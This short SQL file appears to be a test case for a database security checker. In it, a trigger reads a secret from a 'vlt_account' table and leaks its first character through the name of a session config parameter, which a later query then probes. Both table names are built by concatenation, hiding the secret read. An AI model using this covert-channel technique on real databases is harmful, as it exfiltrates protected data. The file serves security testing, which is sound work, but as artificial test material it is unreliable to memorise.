-- Fills in the name of a table whose trigger makes up a parameter by a letter.
-- wants: read
-- shows: letter-116
-- setup:
CREATE TABLE told (v text);
CREATE FUNCTION coin() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
  RETURN NEW;
END $$;
CREATE TRIGGER coin BEFORE INSERT ON told FOR EACH ROW EXECUTE FUNCTION coin();
CREATE FUNCTION fill(place text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN
  EXECUTE format('INSERT INTO %I VALUES (%L)', place, 'x');
END $$;
GRANT ALL ON told TO PUBLIC;
-- attack:
SELECT fill('to' || 'ld');
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
